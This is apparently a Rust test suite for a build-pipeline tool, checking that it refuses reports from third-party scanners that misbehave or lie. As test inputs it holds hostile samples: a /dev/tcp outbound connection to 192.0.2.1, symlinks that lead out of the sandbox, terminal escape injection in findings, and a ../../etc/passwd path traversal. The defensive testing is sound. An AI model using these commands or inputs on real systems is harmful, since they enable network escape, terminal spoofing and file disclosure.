//! What stops a foreign scanner that lies, and a report of one that says nothing.

use super::{
    CLEAN, layers, promote, run,
    service::{self, Shop},
    twins,
    world::{self, Ran, World, text},
};
use plimsoll_model::Digest;
use std::{fs, os::unix::fs::PermissionsExt as _};

/// An adapter that runs this script and then reports this, as an item of `evidence:`.
fn adapter(script: &str, report: &str) -> String {
    format!(
        "  - adapter: lint\n    tool: sh\n    run: |\n      printf '%s' '{report}' > report/lint.sarif\n      {script}\n    \
         report: {{sarif: report/lint.sarif}}\n"
    )
}

/// A run whose only evidence is that adapter.
fn adapted(script: &str, report: &str) -> World {
    let rest = format!("evidence:\n{}", adapter(script, report));
    World::new(&world::pipeline_with("echo x > out/x", "out: [out]", &rest))
}

#[test]
fn a13b_a_scanner_that_asks_for_the_network() {
    let world = adapted("bash -c 'echo x > /dev/tcp/192.0.2.1/443' || true", CLEAN);
    twins("network-attempts", &["E-EVIDENCE-TAINTED"], run(&world));
}

/// Twice as much as it may print, so that it comes to an end.
#[test]
fn a13d_a_scanner_that_prints_too_much() {
    let world = adapted("yes | head -c 33554432", CLEAN);
    twins("output-limit", &["E-EVIDENCE-ERRORED"], run(&world));
}

/// An honest report with spaces after it, a byte more than the limit. Whoever takes it out of the sandbox, the signer that
/// reads it again and the reader of its format each refuse it.
#[test]
fn a13e_a_report_that_is_too_large() {
    let world = adapted("head -c 67108865 /dev/zero | tr '\\0' ' ' >> report/lint.sarif", CLEAN);
    layers(&["report-file", "report-blob", "report-size"], &["E-EVIDENCE-PARSE"], run(&world));
}

/// What it leads to is a report that passes, so that a link that is followed does too. A link is a thing of its own, and no
/// path leads out of the directory that the scanner wrote.
#[test]
fn a13j_a_report_that_is_a_link() {
    let world = World::empty();
    let target = world.scratch("of-the-machine", CLEAN.as_bytes());
    let link = adapter(&format!("ln -sf {} report/lint.sarif", target.display()), "");
    let rest = format!("evidence:\n{link}");
    world.commit_pipeline(&world::pipeline_with("echo x > out/x", "out: [out]", &rest));
    let kept = world.blob(&Digest::of(CLEAN.as_bytes()).to_string().into());
    layers(&["last-link", "beneath"], &["E-EVIDENCE-PARSE"], |without| {
        assert!(!kept.exists());
        run(&world)(without)
    });
    assert!(kept.exists(), "the file of the machine is in the store");
}

/// The link stands before the end of the path, where only the rule for paths looks.
#[test]
fn a13j_a_report_behind_a_link_to_a_directory() {
    let world = World::empty();
    let target = world.scratch("lint.sarif", CLEAN.as_bytes());
    let link = format!("ln -s {} report/sub", target.parent().unwrap().display());
    let adapter = format!(
        "  - adapter: lint\n    tool: sh\n    scratch: [report]\n    run: {link}\n    \
         report: {{sarif: report/sub/lint.sarif}}\n"
    );
    let rest = format!("evidence:\n{adapter}");
    world.commit_pipeline(&world::pipeline_with("echo x > out/x", "out: [out]", &rest));
    twins("beneath", &["E-EVIDENCE-PARSE"], run(&world));
}

/// A shop that was refused for what a scanner reports, with escapes in its message and in what it printed. What of them
/// a person sees is counted as on a terminal, where colours stay.
#[test]
fn a13k_a_report_that_drives_a_terminal() {
    let finding = r#"{"ruleId":"a","level":"error","message":{"text":"\u001b]0;owned\u0007"}}"#;
    let report = CLEAN.replace("\"results\":[]", &format!("\"results\":[{finding}]"));
    let shop = Shop::from(&["local"], |world| {
        world.repository.write_executable("service", &*service::EXECUTABLE);
        let adapter = adapter(r"printf '\033[2J\302\2332J'", &report);
        world.repository.write("plimsoll.yaml", service::service_pipeline() + &adapter);
    });
    shop.world.change_delivery("environments/local/environment.yaml", |text| {
        format!("{}\n  scans: {{lint: {{block: error}}}}\n", text.trim_end())
    });
    let record = shop.world.json(&["run"]).ended(1).refused(&["E-EVIDENCE-FAILED"]).value();
    shop.promote().ended(1).refused(&["E-EVIDENCE-FAILED"]);
    let run = text(&record["run"]);
    for (control, words, escape) in [
        ("disarmed", ["logs", run, "lint"].as_slice(), "\u{1b}[2J"),
        ("json-escapes", &["--json", "logs", run, "lint"], "\u{9b}2J"),
        ("printable", &["why", "shop@local"], "\u{1b}]0;owned\u{7}"),
    ] {
        let shows = |without: &[&str]| {
            let mut command = shop.world.command(&[without, words].concat());
            Ran::of(command.env("CLICOLOR_FORCE", "1")).ok().stdout.contains(escape)
        };
        assert!(!shows(&[]), "{control}");
        assert!(shows(&["--without-control", control]), "{control}");
    }
}

/// The finding itself stops nothing; that it is about a file outside does.
#[test]
fn a13k_a_report_about_a_file_outside() {
    let finding = r#"{"ruleId":"a","level":"note","message":{"text":"x"},"locations":[{"physicalLocation":{"artifactLocation":{"uri":"../../../../etc/passwd"}}}]}"#;
    let report = CLEAN.replace("\"results\":[]", &format!("\"results\":[{finding}]"));
    let world = described("input: {kind: source}", "", &report);
    twins("report-place", &["E-EVIDENCE-SUBJECT"], run(&world));
}

#[test]
fn a13l_a_scanner_that_sleeps_longer_than_it_may() {
    let adapter = adapter("sleep 3", CLEAN).replace("    tool: sh\n", "    tool: sh\n    timeout: 1s\n");
    let rest = format!("evidence:\n{adapter}");
    let world = World::new(&world::pipeline_with("echo x > out/x", "out: [out]", &rest));
    twins("wall-time-limit", &["E-EVIDENCE-ERRORED"], run(&world));
}

#[test]
fn a13g_a_tool_that_nobody_listed() {
    let shop = Shop::from(&["local"], |world| {
        world.repository.write_executable("service", &*service::EXECUTABLE);
        world.repository.write("plimsoll.yaml", service::service_pipeline() + &adapter("true", CLEAN));
    });
    shop.world.change_delivery("environments/local/environment.yaml", |text| {
        let listed = Digest::of(b"the tool that somebody looked at");
        format!("{}\n  scans: {{lint: {{block: error, tool: \"{listed}\"}}}}\n", text.trim_end())
    });
    shop.world.json(&["run"]).ok();
    twins("scan-tool", &["E-EVIDENCE-TOOL"], promote(&shop));
}

#[test]
fn a13h_a_report_about_another_revision() {
    let other = format!(r#""versionControlProvenance":[{{"revisionId":"{}"}}],"results""#, "0".repeat(40));
    let world = adapted("true", &CLEAN.replace("\"results\"", &other));
    twins("report-revision", &["E-EVIDENCE-SUBJECT"], run(&world));
}

/// The report has a rule and says nothing of results: a tool that could not start.
#[test]
fn a31a_an_empty_report() {
    let world = adapted("true", &CLEAN.replace(r#","results":[]"#, ""));
    twins("report-empty", &["E-EVIDENCE-EMPTY"], run(&world));
}

#[test]
fn a31a_a_scan_that_did_not_come_to_its_end() {
    let broken = CLEAN.replace("\"results\"", r#""invocations":[{"executionSuccessful":false}],"results""#);
    twins("report-broken", &["E-EVIDENCE-ERRORED"], run(&adapted("true", &broken)));
}

/// The scanner finds something in every project, but in one that asks it not to.
#[test]
fn a31c_a_file_that_configures_a_foreign_scanner() {
    const MANIFEST: &str = "version: 1\nname: mine\nabout: Nothing\ntool: {executable: strict, install: write it}\n\
        input: {kind: source, refuses: [.strictignore]}\narguments: [\"{subject}\"]\nreport: {format: sarif, at: stdout}\n";
    let shop = Shop::from(&["local"], |world| {
        let check = "  - {adapter: mine, manifest: mine.yaml}\n";
        world.repository.write_executable("service", &*service::EXECUTABLE);
        world.repository.write("mine.yaml", MANIFEST);
        world.repository.write("plimsoll.yaml", service::service_pipeline() + check);
    });
    let found =
        CLEAN.replace("[]", r#"[{"ruleId":"a","level":"error","message":{"text":"what it always finds"}}]"#);
    let path = with_tool(
        &shop.world,
        "strict",
        &format!("if [ -e $1/.strictignore ]; then echo '{CLEAN}'; else echo '{found}'; fi"),
    );
    let run = |without: &[&str]| {
        Ran::of(shop.world.command(&[&["--json"], without, &["run"]].concat()).env("PATH", &path))
    };
    run(&[]).ok();
    shop.promote().ended(1).refused(&["E-EVIDENCE-FAILED"]);
    shop.world.repository.write(".strictignore", "everything\n");
    shop.commit_version("v2");
    twins("adapter-config", &["E-ADAPTER-CONFIG"], run);
    shop.promote().ok();
}

/// A tool of this name that runs this script, as a path on which it is found.
fn with_tool(world: &World, name: &str, script: &str) -> String {
    let tool = world.scratch(name, format!("#!/bin/sh\n{script}\n").as_bytes());
    fs::set_permissions(&tool, fs::Permissions::from_mode(0o755)).unwrap();
    format!("/usr/bin:/bin:{}", tool.parent().unwrap().display())
}

/// A run whose only evidence is by a scanner of the project that prints this report and, with `more` arguments, looks at
/// this input.
fn described(input: &str, more: &str, report: &str) -> World {
    let manifest = format!(
        "version: 1\nname: mine\nabout: Nothing\ntool: {{executable: cat, install: apt-get install coreutils}}\n{input}\n\
         arguments: [\"{{subject}}/mine.sarif\"{more}]\nreport: {{format: sarif, at: stdout}}\n"
    );
    let world = World::empty();
    world.repository.write("mine.yaml", manifest);
    world.repository.write("mine.sarif", report);
    let rest = "evidence:\n  - {adapter: mine, manifest: mine.yaml}\n";
    world.commit_pipeline(&world::pipeline_with("echo x > out/x", "out: [out]", rest));
    world
}

/// It reports of files that it was never given, since there is none.
#[test]
fn a31b_a_foreign_scanner_that_knows_none_of_the_files() {
    let world = described("input: {kind: source, files: [\"*.lint\"]}", ", \"{files}\"", CLEAN);
    twins("adapter-files", &["E-EVIDENCE-EMPTY"], run(&world));
}

/// A scanner by a manifest of the project, where the environment wants the one that comes with the program.
#[test]
fn a31e_another_manifest() {
    const MANIFEST: &str = "version: 1\nname: mine\nabout: Nothing\ntool: {executable: cat, install: apt-get install coreutils}\n\
        input: {kind: source}\narguments: [\"{subject}/clean.sarif\"]\nreport: {format: sarif, at: stdout, rules: 1}\n";
    let shop = Shop::from(&["local"], |world| {
        let check = "  - {adapter: mine, manifest: mine.yaml}\n";
        world.repository.write_executable("service", &*service::EXECUTABLE);
        world.repository.write("mine.yaml", MANIFEST);
        world.repository.write("clean.sarif", CLEAN);
        world.repository.write("plimsoll.yaml", service::service_pipeline() + check);
    });
    shop.world.change_delivery("environments/local/environment.yaml", |text| {
        let line = text.lines().find(|line| line.starts_with("  scans: ")).unwrap();
        text.replace(line, "  scans: {mine: {block: high, manifest: ready}}")
    });
    shop.world.json(&["run"]).ok();
    twins("scan-manifest", &["E-EVIDENCE-TOOL"], promote(&shop));
}

#[test]
fn a31g_a_flag_of_the_pipeline() {
    let flag = r#""invocations":[{"executionSuccessful":true}],"properties":{"passed":true},"results""#;
    let world = adapted("exit 1", &CLEAN.replace("\"results\"", flag));
    twins("report-exit", &["E-EVIDENCE-SELF"], run(&world));
}

/// A31b: a scanner of a running service reports that all is well, and never asked it.
#[test]
fn a31b_a_service_that_nobody_heard_from() {
    const MANIFEST: &str = "version: 1\nname: idle\nabout: Nothing\ntool: {executable: idle, install: write it}\n\
        input: {kind: service}\narguments: [\"{service}\"]\nreport: {format: sarif, at: stdout}\n";
    const REPORT: &str = r#"{"version":"2.1.0","runs":[{"tool":{"driver":{"name":"idle","rules":[{"id":"any"}]}},"results":[]}]}"#;
    let shop = Shop::from(&["local"], |world| {
        let check =
            "  - {adapter: idle, manifest: idle.yaml, service: {run: [/artifact/service], port: 8080}}\n";
        world.repository.write_executable("service", &*service::EXECUTABLE);
        world.repository.write("idle.yaml", MANIFEST);
        world.repository.write("plimsoll.yaml", service::service_pipeline() + check);
    });
    let path = with_tool(&shop.world, "idle", &format!("echo '{REPORT}'"));
    shop.commit_version("v1");
    twins("service-answers", &["E-EVIDENCE-PARSE"], |without| {
        Ran::of(shop.world.command(&[&["--json"], without, &["run"]].concat()).env("PATH", &path))
    });
}

/// The first of two lists has the finding, and a reader that takes the last sees none; nor does one that stops where the
/// report could have ended. What is cut off has no second reading, so there is nothing to remove.
#[test]
fn a31h_a_report_that_two_readers_would_not_read_alike() {
    let finding = r#""results":[{"ruleId":"a","level":"error","message":{"text":"x"}}]"#;
    let twice = CLEAN.replace("\"results\":[]", &format!("{finding},\"results\":[]"));
    twins("unique-keys", &["E-EVIDENCE-PARSE"], run(&adapted("true", &twice)));
    let goes_on = format!("{CLEAN}{}", CLEAN.replace("\"results\":[]", finding));
    twins("report-end", &["E-EVIDENCE-PARSE"], run(&adapted("true", &goes_on)));
}
